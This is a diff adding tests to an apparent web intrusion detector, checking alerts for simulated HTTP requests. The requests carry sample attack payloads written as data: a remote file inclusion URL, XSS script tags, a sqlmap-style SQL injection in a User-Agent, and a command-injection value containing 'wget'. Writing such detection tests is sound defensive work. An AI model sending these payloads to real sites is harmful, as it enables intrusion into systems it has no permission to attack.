@@ -489,6 +489,52 @@ describe('web attacks across TCP segments', () => {
     assert.equal(out.alerts[0].metadata.rule[0], 'dot-dot segment with a path parameter (..;)');
   });
 
+  it("does not keep a URL as clean because it named the request's own host: on another host it is an inclusion", () => {
+    // `page=http://cdn.example/x.php?` is a link back to the site when asked of cdn.example, and a
+    // remote file inclusion asked of shop.example: the verdict depends on the host, not the value.
+    const c = new Conn({ t0: T0 }).handshake();
+    for (const host of ['cdn.example', 'cdn.example', 'cdn.example', 'shop.example']) {
+      c.send(`GET /index.php?page=http://cdn.example/x.php? HTTP/1.1\r\nHost: ${host}\r\n\r\n`).serverAck().reply(OK);
+    }
+    c.close();
+    const out = run(c.frames);
+    assert.deepEqual(seen(out.alerts), [[TRAVERSAL, 13, 'query', 'page', CLIENT]]);
+    assert.equal(out.alerts[0].metadata.rule[0], 'remote file inclusion (URL ending in ?)');
+  });
+
+  it('does not keep as clean another reading of a value, which skipped the XSS check', () => {
+    // Escaped markup is what a safe page holds, so its decoded reading is not checked for XSS; the
+    // same text sent as it is must still be.
+    const c = new Conn({ t0: T0 }).handshake();
+    for (const q of ['%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B', '%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B', '%3Cscript%3Ealert(1)%3C%2Fscript%3E']) {
+      c.send(`GET /search?q=${q} HTTP/1.1\r\nHost: shop.example\r\n\r\n`).serverAck().reply(OK);
+    }
+    c.close();
+    assert.deepEqual(seen(run(c.frames).alerts), [[XSS, 10, 'query', 'q', CLIENT]]);
+  });
+
+  it('keeps what is clean in a header apart from what is clean elsewhere: each place has checks of its own', () => {
+    // A header is also read for a payload appended to its value (sqlmap's), which an argument is
+    // not; a User-Agent's `;` between parentheses is a product comment, an argument's a separator.
+    const appended = 'sqlmap/1.7.2#stable (https://sqlmap.org)) AND 3721=8385-- TtbA';
+    const comment = 'Foo/1.0 (x; wget x)';
+    const c = new Conn({ t0: T0 }).handshake();
+    const requests = [
+      `GET /?q=${encodeURIComponent(appended)} HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
+      `GET /?q=${encodeURIComponent(appended)} HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
+      `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${appended}\r\n\r\n`,
+      `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${comment}\r\n\r\n`,
+      `GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${comment}\r\n\r\n`,
+      `GET /?q=${encodeURIComponent(comment)} HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
+    ];
+    for (const r of requests) c.send(r).serverAck().reply(OK);
+    c.close();
+    assert.deepEqual(seen(run(c.frames).alerts), [
+      [SQLI, 10, 'header', 'user-agent', CLIENT],
+      [CMDI, 19, 'query', 'q', CLIENT],
+    ]);
+  });
+
   it('decodes a chunked body whose attack straddles two chunks and two segments', () => {
     const head = 'POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n';
     const c = new Conn({ t0: T0 }).handshake().send(`${head}b\r\nuser=admin%\r\n`).send('5\r\n27--&\r\n6\r\npass=x\r\n0\r\n\r\n').serverAck().reply(OK).close();
